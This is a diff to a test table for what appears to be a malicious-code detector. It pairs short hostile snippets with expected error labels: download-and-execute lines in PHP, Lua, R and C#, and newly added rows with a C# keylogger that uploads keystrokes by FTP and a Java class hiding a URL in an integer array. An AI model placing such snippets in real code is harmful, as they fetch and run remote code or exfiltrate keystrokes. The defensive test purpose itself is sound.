@@ -80,6 +80,16 @@ describe('two facts that belong together', () => {
     ['php', "<?php $core = file_get_contents('http://203.0.113.9/latest.txt');\neval('?>' . $core);", 'error download-execute'],
     ['lua', 'local h = io.popen("curl -s http://203.0.113.9/l.lua")\nlocal s = h:read("*a")\nload(s)()', 'error download-execute'],
     ['r', 'source("http://203.0.113.9/a.R")', 'error download-execute'],
+    [
+      'csharp',
+      'for (int k = 8; k < 255; k++) if ((GetAsyncKeyState(k) & 1) != 0) File.AppendAllText(log, k + " ");\nclient.UploadFile("ftp://203.0.113.88/k.txt", log);',
+      'error spyware',
+    ],
+    [
+      'java',
+      'class F {\n  private static final int[] T = { 104,116,116,112,115,58,47,47,118,46,99,111,47,97,46,106,97,114 };\n  void f() { new URL(b.toString()).openStream(); }\n}',
+      'error data-drop',
+    ],
     ['csharp', 'Assembly.Load(new WebClient().DownloadData("http://203.0.113.9/a.dll"));', 'error download-execute'],
     [
       'go',
